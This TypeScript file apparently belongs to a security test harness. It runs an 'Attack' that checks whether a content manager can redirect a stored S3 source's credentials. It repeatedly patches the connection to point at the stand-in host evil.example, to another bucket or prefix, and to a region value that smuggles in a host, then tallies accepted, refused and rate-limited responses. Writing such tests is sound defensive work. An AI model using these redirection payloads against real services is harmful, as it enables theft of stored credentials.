import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, call, createPack, post, send } from './call-service.ts';

const bucket = { kind: 's3', bucket: 'ours', endpoint: 'https://storage.example', region: 'eu-central-1' };
/** The same credentials for another host, other files or another host by the region. */
const turned = [
  { ...bucket, endpoint: 'https://evil.example' },
  { ...bucket, bucket: 'theirs' },
  { ...bucket, prefix: 'board/' },
  { ...bucket, endpoint: null, region: 'evil.example/' },
];

const outcomes = new Map([
  [200, 'accepted'],
  [429, 'limited'],
] as const) as ReadonlyMap<number, 'accepted' | 'limited'>;
const pauseMs = 20;

/** Somebody who may manage content, and does not know the credentials of a source, has it use them elsewhere. */
export const stolenCredentials: Attack = {
  name: 'credentials',
  run: async (target, signal) => {
    const path = await createPack(target, 'credentials');
    const { body } = await post(target, `${path}/sources`, {
      ...{ name: 'bucket', connection: bucket, sync_every_minutes: null },
      credentials: { access_key_id: 'i', secret_access_key: 's' },
    });
    const source = `${path}/sources/${body['id']}`;
    const counts = { accepted: 0, refused: 0, limited: 0 };
    for (let tries = 0; !signal.aborted; tries += 1) {
      const { status } = await send(target, ['PATCH', source], { connection: turned[tries % turned.length] });
      if (status === 429) await sleep(pauseMs);
      counts[outcomes.get(status) ?? 'refused'] += 1;
    }
    await call(target, source, { method: 'DELETE' });
    const { accepted, refused, limited } = counts;
    return `${accepted} accepted, ${refused} refused, ${limited} over the limit`;
  },
};
